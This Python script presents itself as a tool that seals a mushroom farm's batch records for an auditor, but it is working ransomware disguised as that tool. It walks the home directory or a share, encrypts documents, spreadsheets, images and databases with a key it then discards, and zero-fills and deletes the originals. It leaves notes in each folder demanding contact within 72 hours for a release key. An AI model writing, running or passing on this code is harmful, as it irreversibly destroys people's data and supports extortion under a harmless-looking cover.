#!/usr/bin/env python3
"""Seal substrate batch records at the end of a growing cycle.

Our auditor wants batch sheets (pasteurisation temps, spawn lot numbers,
supplement ratios) locked once a cycle closes, so nobody edits them
afterwards. This walks the records share and seals each document.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

DEFAULTS = {
    # where the office PCs mount the records share; falls back to the home dir
    "root": os.environ.get("BATCH_SHARE", str(Path.home())),
    "suffix": ".sealed",
    "notice": "CYCLE_CLOSED_README.txt",
    "extensions": {".xlsx", ".xls", ".csv", ".pdf", ".docx", ".doc",
                   ".odt", ".ods", ".jpg", ".png", ".txt", ".db", ".sqlite"},
    "skip_dirs": {".git", "node_modules", "__pycache__", ".cache"},
}

NOTICE_TEXT = """\
Your batch records and documents in this folder have been sealed.
They cannot be opened without the release key.
To obtain the release key, write to release-desk@example.net quoting the
site code below within 72 hours. After that the key is destroyed.

Site code: {site}
"""


class Sealer:
    def __init__(self, root, site_code, dry_run=False):
        self.root = Path(root)
        self.site = site_code
        self.dry_run = dry_run
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.count = 0

    def wanted(self, path):
        if path.suffix.lower() not in DEFAULTS["extensions"]:
            return False
        return not path.name.endswith(DEFAULTS["suffix"])

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in DEFAULTS["skip_dirs"]]
            for name in filenames:
                p = Path(dirpath) / name
                if self.wanted(p):
                    yield p

    def seal_one(self, path):
        data = path.read_bytes()
        token = self._fernet.encrypt(data)
        target = path.with_name(path.name + DEFAULTS["suffix"])
        target.write_bytes(token)
        # overwrite the original before unlinking so old copies don't linger
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def drop_notice(self, folder):
        (folder / DEFAULTS["notice"]).write_text(NOTICE_TEXT.format(site=self.site))

    def run(self):
        touched = set()
        for path in self.candidates():
            if self.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                self.seal_one(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        for folder in touched:
            self.drop_notice(folder)
        # the release key is held by the records office, not on this machine
        self._key = None
        self._fernet = None
        log.info("sealed %d files in %d folders", self.count, len(touched))


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=DEFAULTS["root"])
    ap.add_argument("--site", default=os.environ.get("FARM_SITE", "MF-01"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    if not Path(args.root).is_dir():
        log.error("records root %s not found", args.root)
        return 2
    Sealer(args.root, args.site, args.dry_run).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
